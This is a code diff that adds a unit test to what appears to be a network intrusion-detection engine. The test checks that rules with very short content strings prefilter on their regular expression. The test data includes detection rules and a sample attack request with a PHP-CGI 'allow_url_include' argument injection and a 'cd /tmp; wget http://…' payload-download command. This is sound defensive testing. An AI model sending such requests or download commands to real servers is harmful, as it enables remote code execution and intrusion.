@@ -355,6 +355,46 @@ static void test_backtracking_budget(struct test_case *t)
 	free(payload);
 }
 
+/*
+ * A 1-2 byte content ("d", "/", "cd") is in nearly every request: as the prefilter it sent
+ * almost every sample to the confirm step. The rule's pcre is the prefilter then; a
+ * benign request is no candidate, an attack still matches.
+ */
+static void test_short_content_pcre_prefilter(struct test_case *t)
+{
+	static const char rules[] =
+		"alert http any any -> any any (msg:\"d\"; http.uri.raw; content:\"d\"; "
+		"pcre:\"/\\?(?:%ad|%2d|-)d(?:\\+|%20)+allow_url_include/i\"; sid:1;)\n"
+		"alert tcp any any -> any any (msg:\"cd\"; content:\"cd\"; nocase; "
+		"pcre:\"/cd\\s+\\/tmp\\s*;\\s*wget/i\"; sid:2;)\n";
+	struct scan_input benign = test_input("GET /download/index.d?id=5 HTTP/1.1\r\n"
+					      "Host: cd.example\r\n\r\n");
+	struct scan_input attack = test_input("GET /x.php?-d+allow_url_include=1 HTTP/1.1\r\n"
+					      "X-Cmd: cd /tmp; wget http://198.18.0.9/a\r\n\r\n");
+	struct test_matches matches = { 0 };
+	struct rules_report report;
+	struct ruleset *rs = NULL;
+	struct scan_ctx *ctx = NULL;
+	struct scan_stats stats;
+
+	CHECK(t, test_load_text(rules, &rs, &report, NULL) == 0, "load");
+	EXPECT(t, report.no_prefilter == 0, "%zu rules without a prefilter", report.no_prefilter);
+	ctx = scan_ctx_new(rs);
+	EXPECT(t, ctx && ruleset_scan(rs, ctx, &benign, test_collect, &matches) == 0, "scan");
+	if (ctx) {
+		scan_ctx_stats(ctx, &stats);
+		EXPECT(t, stats.candidates == 0 && matches.count == 0,
+		       "a benign request with 'd' and 'cd' made %llu candidates, %zu matches",
+		       (unsigned long long)stats.candidates, matches.count);
+		EXPECT(t, ruleset_scan(rs, ctx, &attack, test_collect, &matches) == 0 &&
+				  matches.count == 2 && matches.sids[0] == 1 && matches.sids[1] == 2,
+		       "the attack raises both rules (%zu matches)", matches.count);
+	}
+	scan_ctx_free(ctx);
+	ruleset_free(rs);
+	rules_report_free(&report);
+}
+
 int main(void)
 {
 	size_t i;
@@ -366,5 +406,6 @@ int main(void)
 	RUN(test_http_passed_to_callback);
 	RUN(test_stats);
 	RUN(test_backtracking_budget);
+	RUN(test_short_content_pcre_prefilter);
 	return test_summary();
 }
